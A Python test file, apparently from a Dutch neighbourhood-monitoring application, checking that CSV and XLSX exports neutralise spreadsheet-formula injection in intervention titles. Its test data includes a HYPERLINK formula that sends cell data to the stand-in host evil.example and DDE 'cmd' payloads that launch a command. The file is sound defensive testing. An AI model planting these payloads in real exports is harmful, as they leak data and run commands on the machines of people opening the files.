"""Issue 18.2: an intervention title that is a spreadsheet formula comes out of the CSV and XLSX
exports as inert text (OWASP CSV injection: a leading '), the XLSX cell as a text cell, and a
number stays a number. On SQLite and PostgreSQL."""

from __future__ import annotations

import io

import openpyxl
import pandas as pd

from wijkmonitor.local import accounts, interventions
from wm_local_fakes import R

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Klik")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
TITLES = [HYPERLINK, CMD, SUM, "-1", "Buurtteam Overvecht"]


def _items(Session, users):
    with Session.begin() as s:
        ed = accounts.get_user(s, "utrecht")
        for i, title in enumerate(TITLES):
            interventions.save_intervention(s, ed, title=title, areas=["Overvecht"],
                                            organisation="@gemeente", budget_eur=1000 * (i + 1), **R)
    with Session() as s:
        items = interventions.list_interventions(s, **R)
        return interventions.export(items, "csv"), interventions.export(items, "xlsx")


def test_csv_export_neutralises_formulas(Session, users):
    csv, _ = _items(Session, users)
    assert csv.startswith(b"\xef\xbb\xbf")
    df = pd.read_csv(io.BytesIO(csv), sep=";", encoding="utf-8-sig", dtype=str)
    assert df["title"].tolist() == ["'" + HYPERLINK, "'" + CMD, "'" + SUM, "-1", "Buurtteam Overvecht"]
    assert set(df["organisation"]) == {"'@gemeente"}
    # raw bytes: no line of data starts a cell with a live formula character
    for line in csv.decode("utf-8-sig").splitlines()[1:]:
        for cell in line.split(";"):
            assert not cell.strip('"')[:1] in ("=", "+", "@"), line


def test_xlsx_export_writes_text_cells_and_numbers(Session, users):
    _, xlsx = _items(Session, users)
    ws = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    header = [c.value for c in ws[1]]
    title, budget = header.index("title") + 1, header.index("budget_eur") + 1
    cells = [ws.cell(row=r, column=title) for r in range(2, 2 + len(TITLES))]
    assert [c.value for c in cells] == ["'" + HYPERLINK, "'" + CMD, "'" + SUM, "-1", "Buurtteam Overvecht"]
    assert all(c.data_type == "s" for c in cells)
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    amounts = [ws.cell(row=r, column=budget) for r in range(2, 2 + len(TITLES))]
    assert [float(c.value) for c in amounts] == [1000, 2000, 3000, 4000, 5000]
    assert all(c.data_type == "n" for c in amounts)
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref
